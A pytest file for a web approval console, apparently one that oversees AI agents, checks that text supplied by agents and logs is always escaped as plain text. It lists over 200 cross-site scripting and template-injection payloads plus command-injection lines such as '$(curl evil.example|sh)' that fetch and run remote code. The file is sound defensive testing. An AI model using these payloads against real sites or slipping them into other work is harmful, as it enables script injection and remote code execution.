# SPDX-License-Identifier: Apache-2.0
"""D14: whatever somebody else wrote is text on every page, wherever it is shown."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest
from markupsafe import Markup

from sidecar.approvals.values import Approval, Tier, Verdict
from sidecar.model import Directive, Level, Target, TargetKind, ToolClass
from sidecar.web.ports import AgentView, LogReport, PolicyView, ToolUse, ToolView
from tests.support.console import Console
from tests.support.console_demo import fill
from tests.unit.web.web_kit import Browser, Page, decision_form

ELEMENTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert`1`//",
    "<image/src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#x></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><button>Grant",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=//evil.example>Grant",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<x contenteditable onblur=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x><script>alert(1)</script>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<frameset onload=alert(1)>",
    "<portal src=//evil.example>",
    "<dialog open onclose=alert(1)>",
]
BREAKOUTS = [
    '"',
    "'",
    "`",
    '"><b>',
    "'><b>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '" style="background:url(//evil.example)',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</code></li></ol></div><h2>Granted</h2>",
    "</form><form action='/approvals/x/decision'>",
    "</option></select><script>alert(1)</script>",
    "-->",
    "]]>",
    '\\"><script>alert(1)</script>',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&#x3c;script&#x3e;",
    "&amp;lt;script&amp;gt;",
    "&quot;&gt;&lt;script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)",
    "\u2028alert(1)\u2029",
    "\u00bcscript\u00bealert(1)",
    "\uff1cscript\uff1ealert(1)",
    "\x00<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<scr\u0000ipt>",
    "<script\x0b>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "\ud83d<script>",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }}",
    "{{ visitor.session.csrf }}",
    "{# x #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[7*7]]",
    "%(csrf)s",
    "{0.__class__}",
    "$(curl evil.example|sh)",
    "`id`",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/click-me",
    "//evil.example",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    '=HYPERLINK("//evil.example")',
]
WRAPPERS = ["{}", '">{}', "'>{}", "</code>{}"]


def payloads() -> list[str]:
    """Return every payload, the elements in each of their disguises."""
    wrapped = [wrapper.replace("{}", item) for item in ELEMENTS for wrapper in WRAPPERS]
    return [item for item in (*wrapped, *BREAKOUTS, *TEMPLATES) if "\ud83d" not in item]


PAYLOADS = payloads()
BATCHES = [PAYLOADS[start : start + 64] for start in range(0, len(PAYLOADS), 64)]
OURS = {"live.js", "passkey.js"}
LOCAL = ("/", "#")


def skeleton(page: Page) -> set[tuple[str, tuple[str, ...]]]:
    """Return which elements with which attributes there are, but for chips."""
    return {
        (item.tag, tuple(sorted(item.attributes)))
        for item in page.elements
        if "chip" not in item.classes
    }


def check_harmless(page: Page, allowed: set[tuple[str, tuple[str, ...]]]) -> None:
    """Hold *page* against what a page of ours may be made of."""
    assert page.status in (200, 400, 409, 422), page.status
    assert not page.problems
    assert skeleton(page) <= allowed, skeleton(page) - allowed
    for item in page.elements:
        assert not [name for name in item.attributes if name.startswith("on") or name == "style"]
        if "chip" in item.classes:
            assert set(item.attributes) <= {"class", "title"}
        if item.tag == "script":
            source = item.attributes.get("src") or ""
            assert source.split("?")[0].removeprefix("/static/") in OURS
            assert not item.text
        for name in ("href", "action", "src", "formaction"):
            value = item.attributes.get(name)
            if value is not None:
                assert value.startswith(LOCAL), value
                assert not value.startswith("//"), value


async def poison(console: Console, texts: list[str]) -> Approval:
    """Put *texts* wherever somebody else's words are shown; return an approval to look at."""
    every = " ".join(texts)
    first = texts[0]
    tool = ToolView(
        tool="payments.refund",
        tool_class=ToolClass.WRITE,
        data_class=every,
        description=every,
        undo=every,
    )
    directive = Directive(
        epoch=40,
        target=Target(kind=TargetKind.PRINCIPAL, principal=every),
        level=Level.HOLD,
        reason=every,
        author=every,
        create_time_ns=console.clock.wall_ns(),
    )
    console.fleet.tools[tool.tool] = tool
    console.fleet.known["billing-bot"] = AgentView(
        agent="billing-bot",
        owner=every,
        groups=tuple(texts),
        labels={first: every},
        gates=tuple(texts),
        identity=every,
        host=every,
        level=Level.HOLD,
        directives=(directive,),
        tools=tuple(ToolUse(tool=replace(tool, tool=text), hosts=(text,)) for text in texts),
        tokens=((every, first),),
    )
    console.explain.policies = {
        text: PolicyView(
            id=text, file=every, line=1, effect="permit", text=every, annotations={first: every},
            error=every,
        )
        for text in texts
    }  # fmt: skip
    console.explain.reads = tuple(texts)
    console.logs.entries.clear()
    for text in texts:
        console.logs.add(
            "control", kind="decision", agent="billing-bot", session="s-1", tool=text, effect="DENY",
            time=text, decision_id=f"dec_{7:032x}", reasons=[text], arguments={text: every},
            policies=[text], policy_digest=text,
        )  # fmt: skip
        console.logs.add("control", kind=text, agent=text, tool=text, effect=text, detail=text)
    console.logs.reports = [LogReport(log=first, is_ok=False, size=1, detail=every)]
    if 40 in console.containment.receipts:
        receipt = console.containment.receipts[40]
        console.containment.receipts[40] = replace(
            receipt,
            directive=directive,
            agents=tuple(texts),
            gates=tuple(replace(receipt.gates[1], gate=text) for text in texts),
            isolation=tuple(
                replace(item, subject=every, detail=every) for item in receipt.isolation
            ),
        )
    legal = [text.replace("\x00", "\x01") for text in texts]  # I-JSON has no U+0000
    arguments: dict[str, Any] = {f"{number}": text for number, text in enumerate(legal)}
    arguments |= {text: number for number, text in enumerate(legal)}
    earlier = await console.hold(
        arguments={**arguments, "n": 1}, reason=every, owner=every, summary=every
    )
    await console.vote(earlier, "bob", Verdict.REFUSE, _line(every))
    return await console.hold(
        arguments={**arguments, "n": 2},
        reason=every,
        owner=every,
        summary=every,
        policies=tuple(texts),
        tier=Tier.MEDIUM,
    )


def _line(text: str) -> str:
    return "".join(char for char in text if char.isprintable())[:900]


async def look(browser: Browser, approval: Approval, text: str) -> Iterator[Page]:
    """Return every page that shows what was poisoned."""
    console = browser.console
    form = await decision_form(browser, approval)
    action = f"/approvals/{approval.id}/decision"
    audit = {"agent": text[:250], "tool": text[:250], "kind": text[:250], "since": text[:250]}
    pages = [
        await browser.get("/"),
        await browser.get(f"/approvals/{approval.id}"),
        await browser.get("/agents"),
        await browser.get("/agents/billing-bot"),
        await browser.get("/directives/40"),
        await browser.get(f"/decisions/dec_{7:032x}"),
        await browser.get("/audit"),
        await browser.request("GET", _query("/audit", audit)),
        await browser.post("/audit/verify", {}),
        await browser.post(action, {**form, "verdict": text, "reason": text}),
        await browser.post(
            action, {**form, "verdict": "grant", "reason": text, "fingerprint": text}
        ),
        await browser.post(
            "/agents/billing-bot/contain", {"reason": text, "confirm": text, "level": text}
        ),
    ]
    assert not console.containment.orders
    return iter([page for page in pages if page.status != 403])


def _query(path: str, values: dict[str, str]) -> str:
    from urllib.parse import urlencode

    return f"{path}?{urlencode(values, errors='replace')}"


HARMLESS = [
    *("plain words", "two\nlines", "café", "x" * 70, "9", "a.b", "quotes", "a b", "x:y", "(1)"),
    *(f"word {number}" for number in range(30)),
]


@pytest.fixture
async def allowed(console: Console, browser: Browser) -> set[tuple[str, tuple[str, ...]]]:
    """What pages are made of when nobody is hostile."""
    shown = await fill(console)
    found: set[tuple[str, tuple[str, ...]]] = set()
    for path in shown.values():
        found |= skeleton(await browser.get(path))
    approval = await poison(console, HARMLESS)
    for page in await look(browser, approval, "plain"):
        found |= skeleton(page)
    await console.vote(approval, "carol", Verdict.REFUSE, "done")
    return found


async def test_d14_two_hundred_payloads_are_text(
    console: Console, browser: Browser, allowed: set[tuple[str, tuple[str, ...]]]
) -> None:
    """In names, arguments, reasons, logs, policies, forms and addresses, on every page."""
    assert len(PAYLOADS) >= 200
    for batch in BATCHES:
        approval = await poison(console, batch)

        for page in await look(browser, approval, batch[0]):
            check_harmless(page, allowed)
        shown = (await browser.get(f"/approvals/{approval.id}")).text
        for text in batch:
            if text.isascii() and text.isprintable() and not set('"\\') & set(text):
                assert text in shown
        await console.vote(approval, "carol", Verdict.REFUSE, "done")
        console.clock.advance(seconds=1)


@pytest.mark.parametrize("guard", ["exactly", "autoescape"])
async def test_d14_two_hundred_payloads_are_text_negative_control(
    console: Console,
    browser: Browser,
    allowed: set[tuple[str, tuple[str, ...]]],
    monkeypatch: pytest.MonkeyPatch,
    guard: str,
) -> None:
    """With the escaping taken out, the same look finds the elements of the payloads."""
    environment = console.pages._environment
    if guard == "exactly":
        environment.globals["exactly"] = Markup
    else:
        environment.autoescape = False
        environment.finalize = None
    environment.bytecode_cache = None
    environment.cache.clear()  # type: ignore[union-attr]
    approval = await poison(console, BATCHES[0][:8])

    page = await browser.get(f"/approvals/{approval.id}")

    with pytest.raises(AssertionError):
        check_harmless(page, allowed)


async def test_d14_a_name_is_never_a_link(console: Console, browser: Browser) -> None:
    """An address that an agent wrote is shown and cannot be clicked."""
    approval = await console.hold(
        arguments={"url": "https://evil.example/click", "b": "//evil.example"}
    )

    page = await browser.get(f"/approvals/{approval.id}")

    assert "https://evil.example/click" in page.text
    assert not [item for item in page.all("a") if "evil" in (item.attributes.get("href") or "")]


async def test_commands_to_copy_are_quoted_for_a_shell(console: Console, browser: Browser) -> None:
    """A search that somebody sent as a link is no command when its CLI twin is pasted."""
    page = await browser.request("GET", _query("/audit", {"agent": "x; curl evil.example | sh"}))

    commands = [item.text for item in page.all("code") if "data-copy" in item.attributes]
    assert "holdfast audit show --agent 'x; curl evil.example | sh'" in commands
